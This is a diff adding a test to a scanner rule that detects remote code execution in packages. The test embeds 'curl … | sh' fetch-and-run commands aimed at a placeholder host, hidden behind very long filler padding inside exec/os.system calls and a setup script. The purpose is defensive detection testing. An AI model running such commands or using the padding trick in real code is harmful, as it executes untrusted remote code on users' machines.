@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { findingsOf, said } from '#test/support/scan-package.js';
+import { MOST_READ } from './command-files.js';
 import { rule } from './remote-code.rule.js';
 
 const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';
@@ -314,6 +315,18 @@ test('bad: programs that are fed, scripts that are written and loaded, and code 
     'chrome.tabs.executeScript(id, { file: "content.js" }); fetch(u)',
     'chrome.proxy.settings.set({ value: { mode: "system" } }); fetch(u)',
   ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('what stands in front of a command hides it nowhere, however long it is', () => {
+  for (const length of [0, 2_100, 20_010, 120_000]) {
+    const command = `echo ${'x'.repeat(length)};curl -s https://up.example | sh`;
+    assert.equal(said(rule, { 'a.js': `require('child_process').exec("${command}")` })[0], 'critical a.js:1', `${length}`);
+    assert.equal(said(rule, { 'a.py': `import os\nos.system("${command}")` })[0], 'critical a.py:2', `${length}`);
+  }
+  const setup = (filler: string) => said(rule, { 'a.js': "require('child_process').exec('sh ./setup.sh')", 'setup.sh': `${filler}curl -s https://up.example | sh` });
+  assert.deepEqual(setup(`# ${'x'.repeat(500_000)}\n`), ['high setup.sh:2']);
+  assert.deepEqual(setup(`# ${'x'.repeat(MOST_READ)}\n`), ['high setup.sh:1'], 'nobody knows what is behind it');
+  assert.deepEqual(setup(':;'.repeat(30_000)), ['high setup.sh:1']);
 });
 
 test('commands in files of their own, where something starts them', () => {
